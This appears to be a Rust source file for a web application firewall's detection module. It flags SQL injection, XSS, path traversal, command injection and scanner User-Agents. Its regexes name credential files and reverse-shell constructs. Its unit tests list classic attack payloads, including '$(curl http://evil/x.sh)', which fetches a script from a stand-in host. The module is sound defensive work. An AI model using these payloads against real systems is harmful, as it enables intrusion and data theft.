//! What the WAF looks for in one value. SQL injection and XSS use libinjection (the Rust
//! port `libinjectionrs`): a tokenizer and fingerprint set proven over a decade in
//! ModSecurity and OWASP CRS, far fewer false positives than keyword regexes. Path
//! traversal, command injection and scanner signatures follow the shape of the OWASP Core
//! Rule Set's LFI (930xxx), RCE (932xxx) and scanner (913xxx) rules: a separator or shell
//! construct next to a known command, climbing segments or a known sensitive file, and a
//! tool's own User-Agent.

use regex::{Regex, RegexSet};
use std::sync::OnceLock;

#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, serde::Deserialize, serde::Serialize)]
#[serde(rename_all = "snake_case")]
pub enum Check {
    Sqli,
    Xss,
    Traversal,
    Cmdi,
    Scanner,
    Protocol,
}

impl Check {
    pub const ALL: [Check; 6] = [
        Check::Sqli,
        Check::Xss,
        Check::Traversal,
        Check::Cmdi,
        Check::Scanner,
        Check::Protocol,
    ];

    pub fn as_str(self) -> &'static str {
        match self {
            Check::Sqli => "sqli",
            Check::Xss => "xss",
            Check::Traversal => "traversal",
            Check::Cmdi => "cmdi",
            Check::Scanner => "scanner",
            Check::Protocol => "protocol",
        }
    }
}

fn traversal() -> &'static RegexSet {
    static SET: OnceLock<RegexSet> = OnceLock::new();
    SET.get_or_init(|| {
        RegexSet::new([
            // A climbing segment, with either slash.
            r"(?:^|[\\/])\.\.+(?:[\\/]|$)",
            // Files an attacker reads to prove a traversal or inclusion.
            r"(?i)(?:^|[\\/])etc[\\/]+(?:passwd|shadow|group|hosts|issue|motd|crontab|sudoers|(?:ssh|httpd|apache2|nginx)[\\/])",
            r"(?i)(?:^|[\\/])proc[\\/]+(?:self|\d+)[\\/]",
            r"(?i)(?:boot|win|system)\.ini\b|windows[\\/]+(?:system32|win\.ini)|\\windows\\",
            r"(?i)(?:^|[\\/])(?:\.ssh[\\/]+(?:id_[a-z0-9]+|authorized_keys)|\.htpasswd|\.htaccess|\.git[\\/]+(?:config|HEAD)|\.env)\b",
            // Wrappers used for file inclusion.
            r"(?i)^(?:file|php|zip|data|expect|phar|glob)://",
        ])
        .expect("valid patterns")
    })
}

fn cmdi() -> &'static RegexSet {
    static SET: OnceLock<RegexSet> = OnceLock::new();
    // Unix and Windows commands an injection runs first (CRS 932 keeps longer lists; these
    // are the ones seen in real payloads).
    const COMMANDS: &str = r"(?:cat|tac|head|tail|more|less|ls|dir|id|whoami|uname|hostname|ifconfig|ipconfig|netstat|ps|wget|curl|fetch|nc|ncat|netcat|telnet|ssh|bash|sh|zsh|ksh|dash|csh|tcsh|python[23]?|perl|ruby|php|node|lua|echo|printf|env|set|export|rm|cp|mv|chmod|chown|touch|mkdir|find|grep|awk|sed|xargs|sleep|ping|nslookup|dig|host|traceroute|sudo|su|kill|crontab|base64|xxd|od|powershell|cmd|certutil|type|systeminfo|net|whoami\.exe|reg|wmic|timeout|start|call|exec|eval|system|passthru|shell_exec|popen|proc_open)";
    SET.get_or_init(|| {
        RegexSet::new([
            // A separator, then a command (`; ls`, `| id`, `&& whoami`, newline).
            format!(
                r"(?i)(?:[;&|\n\r`]|\$\(|\|\||&&)\s*(?:[\w./-]*/)?{COMMANDS}(?:\s|$|[;&|`<>'){{$])"
            ),
            // A whole value that is a command with an option or a path (the value is passed
            // to a shell as it is: `ls -l /etc`, `ipconfig /all`, `/usr/bin/id`).
            format!(r"(?i)^\s*(?:/(?:usr/)?s?bin/){COMMANDS}\b|^\s*{COMMANDS}\s+(?:-[a-z]|/|\\|\.{{1,2}}/|~|\$|[a-z]:\\)"),
            // Command substitution and shell expansion tricks.
            r"\$\([^)]*\)|`[^`]*`".to_string(),
            r"(?i)\$\{?IFS\}?|\$\{[a-z_]*:?-?[^}]*\}".to_string(),
            // Redirection to or from sensitive places, reverse shells.
            r"(?i)(?:>|<)\s*/(?:dev/(?:tcp|udp)|etc|tmp|var)/".to_string(),
            r"(?i)/bin/(?:ba|z|k|c|tc|da)?sh\b".to_string(),
            r"(?i)\b(?:nc|ncat|netcat)\b.{0,40}\s-[a-z]*e\s".to_string(),
        ])
        .expect("valid patterns")
    })
}

fn scanners() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(
            r"(?i)\b(?:sqlmap|nikto|nmap|masscan|zgrab|nuclei|acunetix|netsparker|appscan|w3af|wpscan|joomscan|dirbuster|dirb|gobuster|feroxbuster|ffuf|wfuzz|hydra|burp(?:suite| collaborator)?|owasp[ _-]?zap|zaproxy|arachni|skipfish|openvas|nessus|qualys|havij|commix|xsser|jaeles|whatweb|fimap|grabber|paros|webinspect|vega|brutus|morfeus|zmeu|blackwidow|httprint|jorgee|sf-scanner|struts-pwn|libwww-perl/[0-9.]+ \(?nikto)\b",
        )
        .expect("valid pattern")
    })
}

/// Percent-decodes up to twice (double encoding is a classic evasion) and turns `+` into a
/// space the first time, as form decoding does.
pub fn decode(value: &[u8], plus_is_space: bool) -> Vec<u8> {
    let mut current: Vec<u8> = if plus_is_space {
        value
            .iter()
            .map(|b| if *b == b'+' { b' ' } else { *b })
            .collect()
    } else {
        value.to_vec()
    };
    for _ in 0..2 {
        if !current.contains(&b'%') {
            break;
        }
        let next: Vec<u8> = percent_encoding::percent_decode(&current).collect();
        if next == current {
            break;
        }
        current = next;
    }
    current
}

fn sql_like() -> &'static Regex {
    static RE: OnceLock<Regex> = OnceLock::new();
    RE.get_or_init(|| {
        Regex::new(r"(?i)\b(?:or|and|xor|not|union|select|insert|update|delete|drop|create|alter|exec|execute|declare|waitfor|delay|sleep|benchmark|having|order|group|like|rlike|regexp|into|from|where|case|when|cast|convert|char|concat|null|is|in|between|limit|procedure|load_file|outfile|information_schema|sys|pg_sleep|dbms_pipe)\b|--|#|/\*|;|=|<|>|\|\||&&")
            .expect("valid pattern")
    })
}

/// libinjection on the value as it is, and as it would read appended to an existing value
/// in the usual injection contexts (after a number, a quoted string, a parenthesis): a
/// payload such as ` or 1=1--` is only SQL once it follows something.
fn sqli(value: &[u8]) -> bool {
    if libinjectionrs::detect_sqli(value).is_injection() {
        return true;
    }
    // The context passes cost five more runs; only a value with SQL words or operators can
    // turn into SQL after a prefix.
    if !sql_like().is_match(&String::from_utf8_lossy(value)) {
        return false;
    }
    let mut buf = Vec::with_capacity(value.len() + 4);
    [&b"1 "[..], b"1' ", b"1\" ", b"1) ", b"1') "]
        .iter()
        .any(|prefix| {
            buf.clear();
            buf.extend_from_slice(prefix);
            buf.extend_from_slice(value);
            libinjectionrs::detect_sqli(&buf).is_injection()
        })
}

/// The first check among `checks` that `value` (already decoded) trips.
pub fn inspect(value: &[u8], checks: &[Check]) -> Option<Check> {
    inspect_within(value, checks, &Check::ALL)
}

/// Like [`inspect`], with only the checks in both `checks` (what a request's exclusions
/// leave) and `within` (what suits the part of the request `value` comes from).
pub fn inspect_within(value: &[u8], checks: &[Check], within: &[Check]) -> Option<Check> {
    if value.len() < 2 {
        return None;
    }
    // Most specific first: SQLi with injection contexts also matches much markup and shell.
    const PRIORITY: [Check; 4] = [Check::Xss, Check::Traversal, Check::Cmdi, Check::Sqli];
    let wanted = PRIORITY
        .iter()
        .filter(|c| checks.contains(c) && within.contains(c) && could_be(**c, value));
    for check in wanted {
        let hit = match check {
            Check::Sqli => sqli(value),
            Check::Xss => libinjectionrs::detect_xss(value).is_injection(),
            Check::Traversal => {
                traversal().is_match(&String::from_utf8_lossy(value)) || value.contains(&0)
            }
            Check::Cmdi => cmdi().is_match(&String::from_utf8_lossy(value)),
            Check::Scanner | Check::Protocol => false,
        };
        if hit {
            return Some(*check);
        }
    }
    None
}

/// A cheap first look: whether `value` has a character every payload of `check` needs. Most
/// real values (ids, words, numbers) have none and skip the expensive detectors.
fn could_be(check: Check, value: &[u8]) -> bool {
    let any = |set: &[u8]| value.iter().any(|b| set.contains(b));
    match check {
        // SQL needs a quote, an operator, a comment, a parenthesis — or words with spaces
        // (`union select …`).
        Check::Sqli => any(b"'\"`;()=<>-/*#|&@\\ \t\n\r+!%^~"),
        // Markup or an attribute: a tag, a quote, `=`, `(` or a `javascript:` scheme.
        Check::Xss => any(b"<>'\"`=(:"),
        // Every traversal pattern has a slash, a backslash, a dot-dot, `:` or NUL.
        Check::Traversal => any(b"/\\:.\0"),
        // Every command-injection pattern has a separator, `$`, a backtick, a slash or an option.
        Check::Cmdi => any(b";|&$`\n\r<>/\\-~"),
        Check::Scanner | Check::Protocol => true,
    }
}

/// A User-Agent of a known attack tool or scanner.
pub fn is_scanner(user_agent: &[u8]) -> bool {
    scanners().is_match(&String::from_utf8_lossy(user_agent))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn classic_payloads_are_caught_and_plain_text_is_not() {
        let all = Check::ALL;
        for (payload, want) in [
            ("1' OR '1'='1' --", Check::Sqli),
            ("1 UNION SELECT username, password FROM users", Check::Sqli),
            ("<script>alert(1)</script>", Check::Xss),
            ("<img src=x onerror=alert(1)>", Check::Xss),
            ("../../../../etc/passwd", Check::Traversal),
            ("..\\..\\windows\\win.ini", Check::Traversal),
            ("; cat /etc/shadow", Check::Traversal),
            ("127.0.0.1; whoami", Check::Cmdi),
            ("$(curl http://evil/x.sh)", Check::Cmdi),
        ] {
            assert_eq!(inspect(payload.as_bytes(), &all), Some(want), "{payload}");
        }
        for benign in [
            "Conan O'Brien",
            "select a union for the drop-off",
            "I'd like to order 2 pizzas; thanks!",
            "see https://example.com/docs/a.b.c?x=1",
            "alert: the script is ready",
            "price < 10 and size > 2",
            "rock & roll",
        ] {
            assert_eq!(inspect(benign.as_bytes(), &all), None, "{benign}");
        }
        assert_eq!(decode(b"%252e%252e%252f", false), b"../");
        assert_eq!(decode(b"a+b%20c", true), b"a b c");
        assert!(is_scanner(b"sqlmap/1.7.2#stable (https://sqlmap.org)"));
        assert!(!is_scanner(
            b"Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0"
        ));
    }
}
